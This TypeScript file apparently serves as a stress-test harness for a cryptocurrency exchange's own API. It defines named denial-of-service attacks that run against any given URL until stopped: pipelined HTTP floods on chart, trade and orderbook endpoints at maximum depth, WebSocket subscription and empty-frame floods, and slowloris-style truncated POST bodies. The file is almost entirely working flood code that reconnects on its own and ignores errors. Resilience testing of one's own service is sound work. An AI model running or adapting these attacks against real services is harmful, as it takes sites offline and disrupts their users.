// What an attacker without an account sends: `attacks.ts <url> <name>`, until its process is ended.
import { connect } from 'node:net';
import { WebSocket } from 'ws';

export type Attack = (url: string) => void;

const MINUTE = 60;
const PAIRS = ['XMR-BTC', 'GRIN-BTC', 'WOW-BTC', 'XMR-USDT', 'BTC-USDT', 'KAS-USDT', 'AVAX-USDT'];
const any = <T>(list: readonly T[]): T => list[Math.floor(Math.random() * list.length)] as T;

/** A chart of minutes, as long as may be asked for, that ends at any time. */
function chartRequest(host: string): string {
  const stop = Math.floor(Date.now() / 1000) - Math.floor(Math.random() * 1000);
  const start = stop - 12_000 * MINUTE;
  const body = JSON.stringify({ frame: 'minute', pair: any(PAIRS), start_ts: start, stop_ts: stop });
  return (
    `POST /stats/chartx HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n` +
    `Accept-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n${body}`
  );
}

/** Connections that send `ahead` requests at once, and again when as many bytes as a request came back. */
function flood(url: string, connections: number, ahead: number, next: (host: string) => string): void {
  const { hostname, port, host } = new URL(url);
  const open = (): void => {
    const socket = connect(Number(port), hostname);
    const send = (): void => {
      socket.write(Array.from({ length: ahead }, () => next(host)).join(''));
    };
    socket.on('connect', send);
    let answered = 0;
    socket.on('data', (data) => {
      answered += data.toString('latin1').split('HTTP/1.1 ').length - 1;
      if (answered < ahead) return;
      answered = 0;
      send();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => setTimeout(open, 50));
  };
  for (let count = 0; count < connections; count += 1) open();
}

const get = (path: () => string) => (host: string) =>
  `GET ${path()} HTTP/1.1\r\nHost: ${host}\r\nAccept-Encoding: gzip\r\n\r\n`;

/** Sockets that send `frames` frames a second each. */
function sockets(url: string, count: number, frames: number, act: (socket: WebSocket) => void): void {
  const open = (): void => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/socket/ws`, { perMessageDeflate: false });
    const timer = setInterval(() => {
      if (socket.readyState !== WebSocket.OPEN) return;
      for (let sent = 0; sent < frames / 10; sent += 1) act(socket);
    }, 100);
    socket.on('message', () => undefined);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      setTimeout(open, 50);
    });
  };
  for (let index = 0; index < count; index += 1) open();
}

const subscribe = (depth: () => number) => (socket: WebSocket) =>
  socket.send(JSON.stringify({ type: 'subscribe_orderbook', pair_symbol: any(PAIRS), depth: depth() }));

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'charts, 40 connections, 20 requests ahead': (url) => flood(url, 40, 20, chartRequest),
  'charts, 200 connections': (url) => flood(url, 200, 1, chartRequest),
  'trades, 100 connections': (url) =>
    flood(
      url,
      100,
      1,
      get(() => `/order/trades/${any(PAIRS)}?limit=500`),
    ),
  'books, 100 connections': (url) =>
    flood(
      url,
      100,
      1,
      get(() => `/order/orderbook/${any(PAIRS)}?depth=500`),
    ),
  'subscriptions of one depth, 100 sockets': (url) =>
    sockets(
      url,
      100,
      10,
      subscribe(() => 500),
    ),
  'subscriptions of every depth, 100 sockets': (url) =>
    sockets(
      url,
      100,
      10,
      subscribe(() => 1 + Math.floor(Math.random() * 500)),
    ),
  'bursts of subscriptions, sockets opened again': (url) =>
    sockets(url, 20, 1000, (socket) => {
      subscribe(() => 500)(socket);
      if (Math.random() < 0.02) socket.terminate();
    }),
  'empty frames and pongs, 20 sockets': (url) =>
    sockets(url, 20, 20_000, (socket) => {
      socket.pong();
      socket.send('');
    }),
  'bodies that break off, 50 connections': (url) => {
    const { hostname, port, host } = new URL(url);
    const open = (): void => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      socket.on('close', () => setTimeout(open, 5));
      socket.on('connect', () => {
        socket.write(
          `POST /stats/chartx HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{`,
        );
        setTimeout(() => socket.destroy(), 10);
      });
    };
    for (let count = 0; count < 50; count += 1) open();
  },
};

const [, script, url = '', name = ''] = process.argv;
if (script === import.meta.filename) ATTACKS[name]?.(url);
